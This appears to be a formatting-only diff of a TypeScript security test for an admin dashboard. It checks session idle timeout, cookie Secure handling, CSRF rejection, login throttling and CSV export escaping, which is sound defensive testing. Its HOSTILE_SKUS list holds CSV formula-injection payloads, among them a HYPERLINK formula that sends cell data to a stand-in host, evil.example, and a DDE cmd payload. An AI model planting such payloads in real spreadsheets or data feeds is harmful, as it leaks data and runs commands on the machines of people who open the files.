@@ -11,7 +11,7 @@ import { ADMIN_TOKEN, type World } from '../fuzz/world.ts';
 import { until, type Target } from '../harness.ts';
 import type { CheckResult } from './auth.ts';
 
-const HOSTILE_SKUS = ['=HYPERLINK("http://evil.example/?d="&A1,"x")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1'];
+const HOSTILE_SKUS = ['=HYPERLINK("http://evil.example/?d="&A1,"x")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1'];
 const LOGIN_ATTEMPTS = 10;
 
 /** What pages of other origins make a browser send; the dashboard is at the daemon's own origin. */
@@ -37,7 +37,12 @@ export async function checkAdmin(world: World, ops: Operation[], target: Target)
   const bearer = { authorization: `Bearer ${ADMIN_TOKEN}` };
   const form = { 'content-type': 'application/x-www-form-urlencoded' };
   const login = (token: string, headers: Record<string, string> = own) =>
-    fetch(`${base}/admin/login`, { method: 'POST', redirect: 'manual', headers: { ...form, ...headers }, body: `token=${encodeURIComponent(token)}` });
+    fetch(`${base}/admin/login`, {
+      method: 'POST',
+      redirect: 'manual',
+      headers: { ...form, ...headers },
+      body: `token=${encodeURIComponent(token)}`,
+    });
   const session = async (): Promise<string> => {
     const res = await login(ADMIN_TOKEN);
     await res.text();
@@ -64,17 +69,22 @@ export async function checkAdmin(world: World, ops: Operation[], target: Target)
   const idle = await session();
   // 31 minutes pass for the admin session made above: the table keeps the sha256 of the id the cookie signs.
   const idleId = decodeURIComponent(idle.slice('waybill_admin='.length)).replace(/\.[^.]*$/, '');
-  await target.query(`update admin_sessions set last_seen_at = now() - interval '31 minutes' where id_hash = $1`, [createHash('sha256').update(idleId).digest('hex')]);
+  await target.query(`update admin_sessions set last_seen_at = now() - interval '31 minutes' where id_hash = $1`, [
+    createHash('sha256').update(idleId).digest('hex'),
+  ]);
   const afterIdle = await queues(idle);
   if (afterIdle !== 401) problems.push(`a session idle for 31 minutes answered ${afterIdle}`);
   const proxied = await login(ADMIN_TOKEN, { ...own, 'x-forwarded-proto': 'https' });
   await proxied.text();
-  if (/;\s*Secure/i.test(proxied.headers.get('set-cookie') ?? '')) problems.push('X-Forwarded-Proto from an untrusted peer made the cookie Secure');
+  if (/;\s*Secure/i.test(proxied.headers.get('set-cookie') ?? ''))
+    problems.push('X-Forwarded-Proto from an untrusted peer made the cookie Secure');
 
   // CSRF: every state-changing admin route, each forgery, with a valid session.
   const live = await session();
   const routes = [
-    ...ops.filter((o) => o.auth === 'admin' && !['GET', 'HEAD', 'OPTIONS'].includes(o.method)).map((o) => ({ method: o.method, path: o.path.replace(/\{\w+\}/g, 'x1') })),
+    ...ops
+      .filter((o) => o.auth === 'admin' && !['GET', 'HEAD', 'OPTIONS'].includes(o.method))
+      .map((o) => ({ method: o.method, path: o.path.replace(/\{\w+\}/g, 'x1') })),
     { method: 'POST', path: '/admin/login' },
     { method: 'POST', path: '/admin/logout' },
   ];
@@ -84,12 +94,19 @@ export async function checkAdmin(world: World, ops: Operation[], target: Target)
       const r = await fetch(`${base}${route.path}`, { method: route.method, redirect: 'manual', headers: { cookie: live, ...headers } });
       const body = await r.text();
       forged++;
-      if (r.status !== 403) problems.push(`${route.method} ${route.path} from ${JSON.stringify(headers)} answered ${r.status}: ${body.slice(0, 150)}`);
+      if (r.status !== 403)
+        problems.push(`${route.method} ${route.path} from ${JSON.stringify(headers)} answered ${r.status}: ${body.slice(0, 150)}`);
     }
   }
-  const forgedAction = await fetch(`${base}/admin/api/connectors/erp-main/disable`, { method: 'POST', headers: { cookie: live, origin: 'https://evil.example' } });
+  const forgedAction = await fetch(`${base}/admin/api/connectors/erp-main/disable`, {
+    method: 'POST',
+    headers: { cookie: live, origin: 'https://evil.example' },
+  });
   await forgedAction.text();
-  const connectors = (await (await fetch(`${base}/admin/api/connectors?runs=0`, { headers: bearer })).json()) as { name: string; enabled: boolean }[];
+  const connectors = (await (await fetch(`${base}/admin/api/connectors?runs=0`, { headers: bearer })).json()) as {
+    name: string;
+    enabled: boolean;
+  }[];
   if (connectors.find((c) => c.name === 'erp-main')?.enabled !== true) problems.push('a forged disable disabled the connector');
   if ((await queues(live)) !== 200) problems.push('forged logouts ended the session');
   for (const action of ['disable', 'enable']) {
@@ -99,7 +116,11 @@ export async function checkAdmin(world: World, ops: Operation[], target: Target)
   }
 
   // CSV: hostile skus come back as text a spreadsheet shows, never evaluates.
-  const put = await fetch(`${base}/shops/${world.shop.shopPk}/products/`, { method: 'PUT', headers: world.shop.headers, body: JSON.stringify(HOSTILE_SKUS.map((sku) => ({ sku, price: 1 }))) });
+  const put = await fetch(`${base}/shops/${world.shop.shopPk}/products/`, {
+    method: 'PUT',
+    headers: world.shop.headers,
+    body: JSON.stringify(HOSTILE_SKUS.map((sku) => ({ sku, price: 1 }))),
+  });
   if (put.status !== 201) throw new Error(`the hostile skus answered ${put.status}: ${await put.text()}`);
   const feedPk = ((await put.json()) as { pk: string }).pk;
   await until('the hostile feed', async () => {
@@ -124,9 +145,19 @@ export async function checkAdmin(world: World, ops: Operation[], target: Target)
     }
   }
   const expected = [...Array(LOGIN_ATTEMPTS).fill(401), 429];
-  if (JSON.stringify(statuses) !== JSON.stringify(expected)) problems.push(`failed logins answered ${statuses.join(',')} (expected ${expected.join(',')})`);
+  if (JSON.stringify(statuses) !== JSON.stringify(expected))
+    problems.push(`failed logins answered ${statuses.join(',')} (expected ${expected.join(',')})`);
   const right = await login(ADMIN_TOKEN);
   await right.text();
-  if (right.status !== 429 || right.headers.get('set-cookie') !== null) problems.push(`the right token while throttled answered ${right.status}`);
-  return { figures: { admin_forged_requests: forged, admin_state_routes: routes.length, csv_hostile_cells: HOSTILE_SKUS.length, login_attempts_before_429: statuses.indexOf(429) }, problems };
+  if (right.status !== 429 || right.headers.get('set-cookie') !== null)
+    problems.push(`the right token while throttled answered ${right.status}`);
+  return {
+    figures: {
+      admin_forged_requests: forged,
+      admin_state_routes: routes.length,
+      csv_hostile_cells: HOSTILE_SKUS.length,
+      login_attempts_before_429: statuses.indexOf(429),
+    },
+    problems,
+  };
 }
